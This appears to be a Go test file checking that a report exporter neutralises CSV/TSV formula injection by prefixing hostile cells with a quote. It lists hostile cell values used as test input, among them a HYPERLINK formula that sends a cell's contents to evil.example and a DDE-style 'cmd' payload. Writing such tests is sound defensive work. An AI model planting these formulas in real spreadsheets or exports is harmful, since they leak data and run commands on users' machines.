package report

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"github.com/churnalism/churn"
)

// hostile are cell values a spreadsheet would run as formulas.
var hostile = []string{
	`=HYPERLINK("https://evil.example/?"&A1,"click")`,
	"+1+cmd|' /C calc'!A0",
	"-2+3",
	"@SUM(1,1)",
	"\t=1+1",
	"\r=1+1",
}

// hostileResult is the seeds' result with every text that comes from the
// input (IDs, names, metadata, notes, passages, skipped inputs) replaced
// by a hostile value.
func hostileResult(t *testing.T) *churn.Result {
	t.Helper()
	res := analyze(t, seedDocs(t), churn.Options{})
	h := func(i int) string { return hostile[i%len(hostile)] }
	for i := range res.Docs {
		d := &res.Docs[i]
		d.ID = h(i) + string(rune('a'+i)) // IDs stay unique
		d.Name, d.Meta.Title, d.Meta.Outlet, d.Meta.URL, d.Meta.Lang = h(i+1), h(i+2), h(i+3), h(i+4), h(i+5)
		d.Meta.Notes = []string{h(i)}
	}
	for i := range res.Pairs {
		for j := range res.Pairs[i].Passages {
			q := &res.Pairs[i].Passages[j]
			q.TextA, q.TextB = h(j), h(j+1)
		}
	}
	res.Skipped = []churn.Skipped{{Name: h(0), Reason: h(1)}}
	return res
}

// TestCSVFormulaInjection writes every table, the matrix too, as CSV and
// TSV from input whose every text is a formula, and checks that no cell
// starts with a formula character unless --csv-raw asked for the bytes
// as they are.
func TestCSVFormulaInjection(t *testing.T) {
	res := hostileResult(t)
	for _, table := range CSVTables() {
		for _, sep := range []rune{',', '\t'} {
			for _, raw := range []bool{false, true} {
				var b bytes.Buffer
				if err := CSVWith(&b, res, table, CSVOptions{Comma: sep, Raw: raw}); err != nil {
					t.Fatalf("%s: %v", table, err)
				}
				r := csv.NewReader(&b)
				r.Comma = sep
				rows, err := r.ReadAll()
				if err != nil {
					t.Fatalf("%s %q: %v", table, sep, err)
				}
				formulas, quoted := 0, 0
				for _, row := range rows[1:] {
					for _, c := range row {
						if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
							formulas++
						}
						for _, h := range hostile {
							if strings.HasPrefix(c, "'"+h) {
								quoted++
							}
						}
					}
				}
				switch {
				case !raw && formulas > 0:
					t.Errorf("%s %q: %d cells start with a formula character", table, sep, formulas)
				case !raw && quoted == 0:
					t.Errorf("%s %q: no neutralised cell", table, sep)
				case raw && (formulas == 0 || quoted > 0):
					t.Errorf("%s %q raw: %d formula cells, %d quoted; want the input's bytes", table, sep, formulas, quoted)
				}
			}
		}
	}
	// CSV neutralises by default, the matrix too.
	for _, table := range []CSVTable{TableDocuments, TableMatrix} {
		var b bytes.Buffer
		if err := CSV(&b, res, table, ','); err != nil {
			t.Fatal(err)
		}
		if !strings.Contains(b.String(), `"'=HYPERLINK(`) {
			t.Errorf("CSV %s does not neutralise:\n%s", table, b.String())
		}
	}
}

func TestNeutralize(t *testing.T) {
	for in, want := range map[string]string{
		"":             "",
		"=1+1":         "'=1+1",
		"+1":           "'+1",
		"-1":           "'-1",
		"@A1":          "'@A1",
		"\t=1":         "'\t=1",
		"\r=1":         "'\r=1",
		"a=1":          "a=1",
		" =1":          " =1",
		"'=1":          "'=1",
		"Știri = news": "Știri = news",
	} {
		if got := Neutralize(in); got != want {
			t.Errorf("Neutralize(%q) = %q, want %q", in, got, want)
		}
	}
}
